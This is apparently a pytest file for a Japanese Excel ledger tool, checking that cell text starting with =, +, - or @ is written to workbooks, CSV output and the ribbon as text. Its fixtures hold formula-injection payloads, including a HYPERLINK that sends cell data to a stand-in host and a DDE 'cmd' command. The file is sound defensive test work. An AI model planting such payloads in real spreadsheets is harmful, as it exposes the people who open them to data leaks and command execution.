"""Formula injection: text that came from a cell is written as text, never as a formula.

A ledger whose case ID, visit IDs, names, staff, place and visit record start with =, +, - or @
(stored as text, as Excel keeps "'=1+2" typed with an apostrophe) goes through every command that
writes a sheet or a CSV, and through the ribbon.  Every generated workbook is read back with
openpyxl: no cell is a formula (data_type 'f'), and the hostile strings are there as text — so the
test would fail if a path stopped copying them.  Every CSV field that starts with =, +, -, @, tab or
CR is either a number or starts with the quote Excel reads as "this is text".
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest


from tests import hostile as H
from tests.ledger_builder import Text, clean_spec, write_ledger

from xlsbridge.io.cells import FORMULA_LEADERS

CASE = "=1+2"
NAMES = {"father.name": '=HYPERLINK("http://evil.invalid/?"&A1,"詳細")', "mother.name": "@SUM(1,2)",
         "child": "+81-90-0000", "staff": "-山田", "content": "=cmd|' /C calc'!A0", "place": "-2+3",
         "visit1": "@V-001", "visit2": "+V-002", "extension": "=5+5"}
PAYLOADS = {CASE, *NAMES.values()}
DAY = "2026-02-15"  # the contract (signed 2025-03-20) ends within 60 days: flags list the case


def injected_spec():
    spec = clean_spec()
    case = spec.cases[0]
    case.update(case_id=Text(CASE), staff=Text(NAMES["staff"]))
    case["father.name"] = Text(NAMES["father.name"])
    case["mother.name"] = Text(NAMES["mother.name"])
    spec.children[0].update(case_id=Text(CASE), name=Text(NAMES["child"]))
    spec.staff[0]["name"] = Text(NAMES["staff"])
    spec.visits[0].update(visit_id=Text(NAMES["visit1"]), case_id=Text(CASE), staff=Text(NAMES["staff"]),
                          content=Text(NAMES["content"]), place=Text(NAMES["place"]),
                          extension_minutes=Text(NAMES["extension"]))  # a finding whose value is the payload
    spec.visits[1].update(visit_id=Text(NAMES["visit2"]), case_id=Text(CASE), staff=Text(NAMES["staff"]),
                          place=Text(NAMES["place"]))
    spec.contacts[0]["case_id"] = Text(CASE)
    return spec


@pytest.fixture
def ledger(tmp_path) -> Path:
    path = write_ledger(tmp_path / "台帳.xlsx", injected_spec())
    wb = openpyxl.load_workbook(path)
    assert not _formula_cells(wb)  # the input itself holds text only
    return path


def _formula_cells(wb, sheets: list[str] | None = None) -> list[str]:
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets if sheets is None or ws.title in sheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _texts(wb, sheets: list[str] | None = None) -> set[str]:
    return {c.value for ws in wb.worksheets if sheets is None or ws.title in sheets
            for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _check_workbook(path: Path, sheets: list[str] | None, expect: set[str]) -> None:
    wb = openpyxl.load_workbook(path)
    assert not _formula_cells(wb, sheets)
    texts = _texts(wb, sheets)
    joined = "\n".join(texts)
    missing = {p for p in expect if p not in texts and p not in joined}
    assert not missing, f"the payloads did not reach {path.name} {sheets}: {missing}"


_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)*")


def _check_csv(text: str, expect: set[str]) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) > 1
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_LEADERS):
                assert _NUMBER.fullmatch(field), f"CSV field would be evaluated by Excel: {field!r}"
    fields = {f for row in rows for f in row}
    missing = {p for p in expect if "'" + p not in fields and not any("'" + p in f for f in fields)}
    assert not missing, f"the payloads did not reach the CSV quoted: {missing}"


def test_validate_csv_and_annotate(ledger, tmp_path):
    run = H.cli("validate", str(ledger), "--format", "csv", "--as-of", DAY)
    assert run.code == 1, run.stderr  # the text in 延長(分) is an error
    _check_csv(run.stdout, {NAMES["extension"], NAMES["visit1"]})
    marked = tmp_path / "チェック.xlsx"
    run = H.cli("validate", str(ledger), "--annotate", str(marked), "--as-of", DAY)
    assert run.code == 1
    _check_workbook(marked, None, {NAMES["extension"], NAMES["visit1"]})
    findings = openpyxl.load_workbook(marked)["チェック結果"]
    assert any(c.value == NAMES["extension"] and c.data_type == "s" for row in findings.iter_rows() for c in row)


def test_fees_breakdown_and_summary(ledger):
    run = H.cli("fees", str(ledger), "--as-of", DAY)
    assert run.code == 0, run.stderr
    _check_workbook(ledger, None, {CASE, NAMES["visit2"]})
    wb = openpyxl.load_workbook(ledger)
    summary = wb["料金集計"]
    assert any(c.value == CASE and c.data_type == "s" for row in summary.iter_rows() for c in row)
    column = [c.value for c in wb["面会記録"][1]].index("内訳")
    breakdowns = [r[column] for r in wb["面会記録"].iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(b, str) and "未計算" in b for b in breakdowns)  # V1 blocked by its finding


def test_flags_sheet_and_csv(ledger):
    run = H.cli("flags", str(ledger), "--format", "csv", "--as-of", DAY, "--within", "60", "--write")
    assert run.code == 0, run.stderr
    _check_csv(run.stdout, {CASE})
    _check_workbook(ledger, ["期限・年齢"], {CASE})


def test_plan_sheets_in_place_and_out(ledger, tmp_path):
    run = H.cli("plan", str(ledger), "--case", CASE, "--as-of", DAY)
    assert run.code == 0, run.stderr
    plan_payloads = {NAMES["father.name"], NAMES["mother.name"], NAMES["child"], NAMES["staff"]}
    _check_workbook(ledger, ["計画書_=1+2"], plan_payloads)
    out = tmp_path / "計画書.xlsx"
    run = H.cli("plan", str(ledger), "--all", "--out", str(out), "--as-of", DAY)
    assert run.code == 0, run.stderr
    _check_workbook(out, None, plan_payloads)


def test_report_if_present(ledger, tmp_path):
    from xlsbridge.cli.main import COMMANDS

    import importlib.util

    if importlib.util.find_spec(COMMANDS["report"]) is None:
        pytest.skip("xlsbridge report is not there yet")
    run = H.cli("report", str(ledger), "--from", "2025-04-01", "--to", "2026-03-31", "--format", "csv", "--as-of", DAY)
    assert run.code == 0, run.stderr
    _check_csv(run.stdout, set())
    out = tmp_path / "実績.xlsx"
    run = H.cli("report", str(ledger), "--from", "2025-04-01", "--to", "2026-03-31", "--out", str(out), "--as-of", DAY)
    assert run.code == 0, run.stderr
    _check_workbook(out, None, set())
    assert not PAYLOADS & _texts(openpyxl.load_workbook(out))  # numbers only: no names or IDs at all


# ------------------------------------------------------------------------------------------------
# The ribbon, through xlwings' remote engine
# ------------------------------------------------------------------------------------------------

def _strings(value: Any):
    if isinstance(value, str):
        yield value
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)


def _own_link(text: str) -> bool:
    """xlsbridge's own HYPERLINK to a cell of the workbook (チェック結果): a formula on purpose."""
    return re.fullmatch(r'=HYPERLINK\("#\'(?:[^\']|\'\')+\'![A-Z]{1,3}\d+(?::[A-Z]{1,3}\d+)?","[^"]*(?:""[^"]*)*"\)', text) is not None


@pytest.fixture
def remote(monkeypatch, tmp_path):
    import xlwings as xw

    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
    if "remote" not in [e.name for e in xw.engines]:
        from xlwings.pro import _xlremote

        xw.engines.add(xw.Engine(impl=_xlremote.engine))
    monkeypatch.setenv("XLSBRIDGE_OUTPUT_DIR", str(tmp_path))


def test_ribbon_actions_write_user_text_as_text(ledger, remote, tmp_path):
    from tests import xlwings_payload as xp

    from xlsbridge.excel import entrypoints as ep

    wb = xp.load(ledger)
    seen: set[str] = set()
    for action in (ep.check_entries, ep.compute_fees, ep.check_deadlines):
        book = xp.remote_book(wb, name="台帳.xlsx", active="ケース", selection="A2")
        action(book, as_of=date.fromisoformat(DAY))
        alerts = [a for a in xp.actions(book) if a["func"] == "alert"]
        assert alerts and "予期しないエラー" not in alerts[-1]["args"][0], alerts
        for a in xp.actions(book):
            if a["func"] == "alert":
                continue
            for text in _strings({k: v for k, v in a.items() if k != "func"}):  # args and values
                if text.startswith(FORMULA_LEADERS):
                    assert _own_link(text), f"{action.__name__} writes {text!r} as a formula"
                seen.add(text)
    assert {"'" + CASE, "'" + NAMES["extension"]} <= seen  # the payloads went through, quoted
    book = xp.remote_book(wb, name="台帳.xlsx", active="ケース", selection="A2")
    target = ep.make_plan(book, as_of=date.fromisoformat(DAY), out_dir=tmp_path)
    assert target is not None and target.exists()
    _check_workbook(target, None, {NAMES["father.name"], NAMES["staff"]})


def test_the_leaders_cover_what_spreadsheets_evaluate():
    """Excel, LibreOffice and Google Sheets evaluate a CSV field starting with =, +, - or @ (and a
    tab or CR before them): every one is in the list csv_safe and as_excel_text escape."""
    assert set("=+-@\t\r") <= set(FORMULA_LEADERS)
    from xlsbridge.excel.book import as_excel_text
    from xlsbridge.io.cells import csv_safe

    for leader in "=+-@\t\r":
        assert csv_safe(leader + "x") == "'" + leader + "x"
        assert as_excel_text(leader + "x") == "'" + leader + "x"
    assert csv_safe(-5) == -5 and json.dumps(csv_safe("普通の文字")) == json.dumps("普通の文字")
